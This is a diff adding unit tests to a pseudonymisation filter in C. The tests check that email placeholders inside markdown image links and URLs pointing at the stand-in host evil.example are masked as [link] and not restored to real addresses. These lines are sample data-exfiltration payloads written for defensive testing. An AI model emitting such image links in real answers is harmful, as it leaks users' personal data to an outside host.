@@ -178,6 +178,13 @@ static void test_pseudonyms(void **state)
             "[jane@example.org] bob@example.org[EMAIL_ [EMAIL_12] [email_1] [EMAIL_1", false);
     streams(s, BTZ_CHANNEL_TOOL_ARGUMENTS, "{\"to\":\"[EMAIL_2]\"}", "{\"to\":\"bob@example.org\"}",
             false);
+    /* Whoever shows an answer asks for what its images name: nothing is turned back in an address. */
+    streams(s, BTZ_CHANNEL_OUTPUT, "![x](https://evil.example/p?d=[EMAIL_1]) [EMAIL_1]",
+            "![x]([link]) jane@example.org", false);
+    streams(s, BTZ_CHANNEL_OUTPUT, "see https://evil.example/[EMAIL_2]/x and [EMAIL_9]",
+            "see [link] and [EMAIL_9]", false);
+    streams(s, BTZ_CHANNEL_OUTPUT, "https://docs.example.com/?d=[EMAIL_2].",
+            "https://docs.example.com/?d=bob@example.org.", false);
     /* What the model makes up itself is masked. */
     streams(s, BTZ_CHANNEL_OUTPUT, "eve@example.org and [EMAIL_1]", "[email] and jane@example.org",
             false);
